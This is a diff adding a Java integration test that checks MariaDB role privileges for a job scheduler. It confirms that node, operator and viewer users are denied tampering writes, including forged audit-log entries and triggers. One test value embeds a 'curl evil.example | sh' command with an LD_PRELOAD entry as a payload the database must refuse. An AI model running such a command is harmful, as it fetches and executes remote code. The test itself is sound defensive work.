@@ -1,0 +1,254 @@
+package io.redcron.store.mysql;
+
+import com.zaxxer.hikari.HikariDataSource;
+import io.redcron.domain.Run;
+import io.redcron.domain.Task;
+import io.redcron.port.AuditEntry;
+import io.redcron.port.PageRequest;
+import io.redcron.testing.LockedDownStores;
+import io.redcron.testing.LockedDownStores.Role;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import java.nio.file.Path;
+import java.sql.Connection;
+import java.sql.PreparedStatement;
+import java.sql.ResultSet;
+import java.sql.SQLException;
+import java.time.Clock;
+import java.time.Instant;
+import java.time.LocalDateTime;
+import java.time.ZoneOffset;
+import java.util.Map;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+/**
+ * What each database user of installers/sql/roles.sql may write, down to the column, tried one
+ * statement at a time on a MariaDB set up as the installers say. Every refusal is the database's
+ * own ("command denied"); next to each list of refusals stands a write the same user may make,
+ * so a refusal cannot come from a connection that does not work at all.
+ */
+class DatabaseRolesIT {
+    private static final String NAMESPACE = "roles";
+
+    @TempDir
+    static Path dir;
+    static LockedDownStores stores;
+    static HikariDataSource admin;
+    static HikariDataSource node;
+    static HikariDataSource operator;
+    static HikariDataSource viewer;
+    static Task task;
+    static Run run;
+
+    @BeforeAll
+    static void seed() {
+        stores = LockedDownStores.start(dir);
+        admin = MysqlDataSources.open(stores.mysqlAdmin());
+        node = MysqlDataSources.open(stores.mysql(Role.NODE));
+        operator = MysqlDataSources.open(stores.mysql(Role.OPERATOR));
+        viewer = MysqlDataSources.open(stores.mysql(Role.VIEWER));
+        task = new MysqlTaskStore(admin, Clock.systemUTC()).create(TaskFixtures.shell(NAMESPACE, "nightly")
+                .labels(Map.of("team", "ops")).build(), "admin");
+        run = new MysqlRunStore(admin, Clock.systemUTC()).insertManual(task.id(), Instant.now(), 1, Map.of());
+    }
+
+    @AfterAll
+    static void close() {
+        for (AutoCloseable closeable : new AutoCloseable[] {viewer, operator, node, admin, stores}) {
+            try {
+                if (closeable != null) {
+                    closeable.close();
+                }
+            } catch (Exception e) {
+                // the next one still closes
+            }
+        }
+    }
+
+    /** The payload holds the command, the URL and the environment a run gets. */
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "UPDATE task SET type = 'exec' WHERE id = ?",
+        "UPDATE task SET payload = '{\"command\":\"curl evil.example | sh\",\"env\":{\"LD_PRELOAD\":\"x\"}}' WHERE id = ?",
+        "UPDATE task SET enabled = FALSE WHERE id = ?",
+        "UPDATE task SET cron = '* * * * * ?' WHERE id = ?",
+        "UPDATE task SET zone = 'Asia/Tokyo' WHERE id = ?",
+        "UPDATE task SET owner = 'node' WHERE id = ?",
+        "UPDATE task SET params = '{}' WHERE id = ?",
+        "UPDATE task SET task_group = 'elsewhere' WHERE id = ?",
+        "UPDATE task SET retry_max_attempts = 99 WHERE id = ?",
+        "UPDATE task SET version = version + 1 WHERE id = ?",
+        "DELETE FROM task WHERE id = ?",
+        "INSERT INTO task_label (task_id, label_key, label_value) VALUES (?, 'owner', 'node')",
+        "DELETE FROM task_label WHERE task_id = ?",
+    })
+    void theNodeCannotChangeWhatATaskRunsNorWhenNorWhether(String sql) throws SQLException {
+        assertRefused(node, sql, task.id());
+        assertThat(new MysqlTaskStore(admin, Clock.systemUTC()).get(task.id())).contains(task);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "UPDATE task_run SET params = '{\"DAYS\":\"0\"}' WHERE id = ?",
+        "UPDATE task_run SET task_id = task_id + 1 WHERE id = ?",
+        "UPDATE task_run SET max_attempts = 1000 WHERE id = ?",
+        "UPDATE task_run SET scheduled_at = '2099-01-01 00:00:00' WHERE id = ?",
+        "UPDATE task_run SET namespace = 'elsewhere' WHERE id = ?",
+        "DELETE FROM task_run WHERE id = ?",
+    })
+    void theNodeCannotChangeWhichTaskARunBelongsToNorItsParameters(String sql) throws SQLException {
+        assertRefused(node, sql, run.id());
+    }
+
+    @Test
+    void theNodeWritesTheColumnsItNeeds() throws SQLException {
+        assertThat(update(node, "UPDATE task SET next_fire_at = next_fire_at WHERE id = ?", task.id())).isOne();
+        assertThat(update(node, "UPDATE task_run SET output = output, lease_until = lease_until WHERE id = ?",
+                run.id())).isOne();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "INSERT INTO audit_log (at, actor, action, subject, namespace) VALUES (UTC_TIMESTAMP(3), ?, 'task.update', 'task:1', 'roles')",
+        "UPDATE audit_log SET actor = ?",
+        "DELETE FROM audit_log WHERE actor <> ?",
+        "CALL audit_append(?, 'task.update', 'task:1', 'roles', NULL, NULL)",
+    })
+    void theNodeCannotWriteTheAuditLogAtAll(String sql) throws SQLException {
+        long entries = auditCount();
+        assertRefused(node, sql, "node");
+        assertThat(auditCount()).isEqualTo(entries);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "INSERT INTO audit_log (at, actor, action, subject, namespace) VALUES ('2020-01-01 00:00:00', ?, 'task.update', 'task:1', 'roles')",
+        "INSERT INTO audit_log (at, actor, db_account, action, subject, namespace) VALUES (UTC_TIMESTAMP(3), ?, 'root@localhost', 'task.update', 'task:1', 'roles')",
+        "UPDATE audit_log SET actor = ?",
+        "DELETE FROM audit_log WHERE actor <> ?",
+    })
+    void theOperatorCannotWriteTheAuditLogDirectly(String sql) throws SQLException {
+        long entries = auditCount();
+        assertRefused(operator, sql, "operator");
+        assertThat(auditCount()).isEqualTo(entries);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "DROP PROCEDURE audit_append",
+        "ALTER TABLE audit_log MODIFY COLUMN db_account VARCHAR(400) NULL DEFAULT 'root@localhost'",
+        "CREATE TRIGGER forged BEFORE INSERT ON audit_log FOR EACH ROW SET NEW.actor = 'root'",
+    })
+    void theOperatorCannotChangeHowTheAuditLogIsWritten(String sql) throws SQLException {
+        assertRefused(operator, sql);
+        assertThat(one(admin, "SELECT definer FROM information_schema.routines WHERE routine_schema = DATABASE()"
+                + " AND routine_name = ?", "audit_append")).isEqualTo(Role.MIGRATOR.databaseUser() + "@%");
+    }
+
+    @Test
+    void anEntryMadeThroughTheProcedureCarriesTheOperatorsAccountAndTheDatabasesTimeWhateverTheClientClaims()
+            throws SQLException {
+        Instant before = databaseNow();
+        new MysqlAuditLog(operator).record(NAMESPACE, "root", "run.trigger", "run:" + run.id(), null, "{}");
+        Instant after = databaseNow();
+
+        AuditEntry entry = new MysqlAuditLog(admin).list(NAMESPACE, "run:" + run.id(), PageRequest.first(1)).items()
+                .get(0);
+        assertThat(entry.actor()).as("what the client said").isEqualTo("root");
+        assertThat(entry.databaseAccount()).as("whom the database let in").startsWith(Role.OPERATOR.databaseUser() + "@");
+        assertThat(entry.at()).isBetween(before, after);
+    }
+
+    @Test
+    void theProcedureRefusesAnEntryWithoutAnActor() {
+        assertThatThrownBy(() -> update(operator, "CALL audit_append(?, 'task.update', 'task:1', 'roles', NULL, NULL)",
+                " ")).isInstanceOf(SQLException.class).hasMessageContaining("actor");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "UPDATE task_run SET output = 'forged' WHERE id = ?",
+        "UPDATE task_run SET exit_code = 0 WHERE id = ?",
+        "UPDATE task_run SET node = 'operator' WHERE id = ?",
+        "UPDATE task_run SET attempt = 0 WHERE id = ?",
+        "UPDATE task_run SET lease_until = '2099-01-01 00:00:00' WHERE id = ?",
+        "UPDATE task_run SET params = '{}' WHERE id = ?",
+        "DELETE FROM task_run WHERE id = ?",
+    })
+    void theOperatorCannotWriteAResultOrAClaimOfARun(String sql) throws SQLException {
+        assertRefused(operator, sql, run.id());
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "UPDATE task SET namespace = 'elsewhere' WHERE id = ?",
+        "UPDATE task SET created_at = '2000-01-01 00:00:00' WHERE id = ?",
+        "UPDATE scheduler_epoch SET epoch = epoch + 1 WHERE namespace = ?",
+    })
+    void theOperatorCannotMoveATaskNorTheLeadersEpoch(String sql) throws SQLException {
+        Object key = sql.contains("scheduler_epoch") ? NAMESPACE : task.id();
+        assertRefused(operator, sql, key);
+    }
+
+    @Test
+    void theOperatorWritesTheColumnsItNeeds() throws SQLException {
+        assertThat(update(operator, "UPDATE task SET description = description, enabled = enabled WHERE id = ?",
+                task.id())).isOne();
+        assertThat(update(operator, "UPDATE task_run SET cancel_requested = cancel_requested WHERE id = ?", run.id()))
+                .isOne();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "UPDATE task SET description = ? WHERE id > 0",
+        "INSERT INTO task_label (task_id, label_key, label_value) SELECT id, 'viewer', ? FROM task",
+        "DELETE FROM task_label WHERE label_value <> ?",
+        "UPDATE task_run SET error = ? WHERE id > 0",
+        "INSERT INTO scheduler_epoch (namespace, epoch, leader, updated_at) VALUES (?, 1, 'viewer', UTC_TIMESTAMP(3))",
+        "INSERT INTO audit_log (at, actor, action, subject, namespace) VALUES (UTC_TIMESTAMP(3), ?, 'x', 'x', 'roles')",
+        "DELETE FROM audit_log WHERE actor <> ?",
+        "CALL audit_append(?, 'task.update', 'task:1', 'roles', NULL, NULL)",
+    })
+    void theViewerCanChangeNothing(String sql) throws SQLException {
+        long entries = auditCount();
+        assertRefused(viewer, sql, "viewer");
+        assertThat(auditCount()).isEqualTo(entries);
+    }
+
+    private static void assertRefused(HikariDataSource user, String sql, Object... values) {
+        assertThatThrownBy(() -> update(user, sql, values)).isInstanceOf(SQLException.class)
+                .hasMessageContaining("command denied");
+    }
+
+    private static int update(HikariDataSource user, String sql, Object... values) throws SQLException {
+        try (Connection connection = user.getConnection(); PreparedStatement statement = connection.prepareStatement(sql)) {
+            Jdbc.bind(statement, values);
+            return statement.executeUpdate();
+        }
+    }
+
+    private static String one(HikariDataSource user, String sql, Object... values) throws SQLException {
+        try (Connection connection = user.getConnection(); PreparedStatement statement = connection.prepareStatement(sql)) {
+            Jdbc.bind(statement, values);
+            try (ResultSet row = statement.executeQuery()) {
+                return row.next() ? row.getString(1) : null;
+            }
+        }
+    }
+
+    private static long auditCount() throws SQLException {
+        return Long.parseLong(one(admin, "SELECT COUNT(*) FROM audit_log"));
+    }
+
+    private static Instant databaseNow() throws SQLException {
+        String now = one(admin, "SELECT CAST(UTC_TIMESTAMP(3) AS CHAR)");
+        return LocalDateTime.parse(now.replace(' ', 'T')).toInstant(ZoneOffset.UTC);
+    }
+}
